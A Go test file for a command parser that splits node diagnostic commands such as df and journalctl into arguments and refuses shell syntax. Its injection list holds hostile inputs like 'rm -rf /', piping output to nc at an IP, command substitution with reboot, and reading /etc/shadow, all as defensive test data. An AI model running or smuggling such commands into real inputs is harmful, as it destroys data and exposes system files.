package nodes

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

func TestParse(t *testing.T) {
	good := map[string][]string{
		"df -h":      {"df", "-h"},
		"  df\t-h  ": {"df", "-h"},
		`journalctl -u kubelet --since "10 min ago" -n 50`: {"journalctl", "-u", "kubelet", "--since", "10 min ago", "-n", "50"},
		`journalctl --since '2024-01-02 10:00'`:            {"journalctl", "--since", "2024-01-02 10:00"},
		`a'b c'd`:                                          {"ab cd"},
		`x "it's"`:                                         {"x", "it's"},
	}
	for in, want := range good {
		got, err := Parse(in)
		if err != nil || !reflect.DeepEqual(got, want) {
			t.Errorf("Parse(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
}

// injections are refused by the parser before any allowlist is consulted.
var injections = []string{
	"df -h; rm -rf /",
	"df -h && reboot",
	"df -h || reboot",
	"df -h | nc 10.0.0.1 80",
	"df -h > /etc/passwd",
	"df -h < /dev/zero",
	"df `reboot`",
	"df $(reboot)",
	"df ${IFS}",
	"df -h & sleep 1",
	"df -h\nreboot",
	"df -h\rreboot",
	`df "$(reboot)"`,
	"df '`id`'",
	`df \; reboot`,
	"df *",
	"cat /etc/shado?",
	"df -h # comment",
	"df ~root",
	"df (-h)",
	"df \x00",
	"df ‐h", // Unicode hyphen
	"df 'unterminated",
	"",
	"   ",
	"df ''",
}

func TestParseRefusesShellSyntax(t *testing.T) {
	for _, in := range injections {
		if argv, err := Parse(in); err == nil {
			t.Errorf("Parse(%q) = %q, want refusal", in, argv)
		} else if !errors.Is(err, ErrNotAllowed) {
			t.Errorf("Parse(%q): %v is not ErrNotAllowed", in, err)
		}
	}
	if _, err := Parse(strings.Repeat("a", maxCommandLen+1)); err == nil {
		t.Error("overlong command accepted")
	}
}

func TestQuote(t *testing.T) {
	got := Quote([]string{"df", "-h", "a b", "it's"})
	want := `'df' '-h' 'a b' 'it'\''s'`
	if got != want {
		t.Errorf("Quote = %s, want %s", got, want)
	}
}

// FuzzParse checks, on any input, that Parse never panics, that what it
// accepts holds no shell syntax, and that plain words round-trip.
func FuzzParse(f *testing.F) {
	for _, s := range append([]string{"df -h", `journalctl --since "1 h ago" -n 5`, "a'b'c", `"x" 'y'`}, injections...) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		argv, err := Parse(s)
		if err != nil {
			if !errors.Is(err, ErrNotAllowed) {
				t.Fatalf("error %v is not ErrNotAllowed", err)
			}
			return
		}
		if len(argv) == 0 {
			t.Fatal("accepted with empty argv")
		}
		plain := true
		for _, a := range argv {
			if a == "" {
				t.Fatalf("empty argument from %q", s)
			}
			if strings.ContainsAny(a, shellChars) {
				t.Fatalf("argument %q from %q holds shell syntax", a, s)
			}
			for _, r := range a {
				if r < 0x20 && r != ' ' && r != '\t' || r > 0x7e {
					t.Fatalf("argument %q from %q holds a non-printable character", a, s)
				}
			}
			if strings.ContainsAny(a, " \t'\"") {
				plain = false
			}
		}
		if plain {
			again, err := Parse(strings.Join(argv, " "))
			if err != nil || !reflect.DeepEqual(again, argv) {
				t.Fatalf("round trip of %q: %q -> %q, %v", s, argv, again, err)
			}
		}
	})
}
